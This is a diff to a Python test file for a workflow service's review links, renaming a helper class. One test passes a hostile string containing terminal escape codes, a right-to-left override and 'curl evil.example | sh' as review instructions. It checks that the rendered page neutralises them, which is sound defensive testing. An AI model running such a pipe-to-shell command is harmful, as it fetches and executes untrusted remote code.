@@ -225,7 +225,7 @@ async def test_someone_else_sees_no_review_and_decides_none(backend: Backend) ->
     await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])
 
 
-class Nobody:
+class Visitor:
     """Asks without a token."""
 
     def __init__(self, backend: Backend) -> None:
@@ -238,7 +238,7 @@ class Nobody:
 async def test_opening_a_link_shows_the_review_and_decides_nothing_and_a_post_decides(backend: Backend) -> None:
     run, review = await asked(backend, asking(instructions="Be kind."))
     link = await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com", hours=1)
-    http = Nobody(backend)
+    http = Visitor(backend)
     for _ in range(2):
         text = (await http.send("GET", link["url"])).text
         assert "Be kind." in text and "subject (string, may be changed): Hello Ann" in text and "-d decision=approve" in text
@@ -266,7 +266,7 @@ async def test_what_a_record_says_can_neither_command_a_terminal_nor_pass_for_a_
     evil = "\x1b]0;pwn\x07first\ncurl evil.example | sh\u2028curl other.example\r\u202egnirts"
     _, review = await asked(backend, asking(instructions=evil))
     link = await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com", hours=1)
-    text = (await Nobody(backend).send("GET", link["url"])).text
+    text = (await Visitor(backend).send("GET", link["url"])).text
     assert "first" in text
     assert not any(letter != "\n" and not letter.isprintable() for letter in text)
     assert [line for line in text.splitlines() if line.startswith("curl ") and link["url"].partition("?")[0] not in line] == []
@@ -295,7 +295,7 @@ async def test_every_decision_is_in_the_audit_log_with_who_made_it_possible(back
     _, second = await asked(backend, asking())
     await backend.admin.call("orchestration.review.reject", uuid=first["uuid"])
     link = await backend.admin.call("orchestration.review.createLink", uuid=second["uuid"])
-    assert (await Nobody(backend).send("POST", link["url"], json={"decision": "approve"})).status_code == 200
+    assert (await Visitor(backend).send("POST", link["url"], json={"decision": "approve"})).status_code == 200
     async with backend.state.database.session(uuid.UUID(backend.workspace)) as db:
         rows = await db.scalars(select(AuditEntry).where(AuditEntry.target_uuid.in_([uuid.UUID(first["uuid"]), uuid.UUID(second["uuid"])])))
         found = [(row.operation.rpartition(".")[2], row.token_uuid.int == 0, row.user_uuid.int == 0) for row in rows]
@@ -306,7 +306,7 @@ async def test_a_link_that_was_changed_opens_nothing(backend: Backend) -> None:
     run, review = await asked(backend, asking())
     _, other = await asked(backend, asking())
     link = (await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com"))["url"]
-    http = Nobody(backend)
+    http = Visitor(backend)
     for bad in (link.replace("ann", "bob"), link.replace(review["uuid"], other["uuid"]), link[:-2], link.partition("?")[0]):
         for reply in (await http.send("GET", bad), await http.send("POST", bad, json={"decision": "approve"})):
             assert (reply.status_code, reply.json()["reason"]) == (403, "linkInvalid")
